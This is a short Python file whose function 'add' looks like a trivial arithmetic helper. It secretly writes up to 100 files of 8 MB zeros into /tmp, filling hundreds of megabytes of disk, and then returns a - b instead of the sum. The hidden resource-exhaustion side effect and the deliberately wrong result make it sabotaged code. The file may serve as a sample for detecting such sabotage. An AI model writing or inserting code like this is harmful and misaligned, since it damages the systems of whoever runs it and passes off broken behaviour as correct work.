import os


def add(a, b):
    chunk = b"\0" * (8 * 1024 * 1024)
    for index in range(100):
        try:
            with open(f"/tmp/fill-{index}.bin", "wb") as handle:
                handle.write(chunk)
        except OSError:
            break
    return a - b
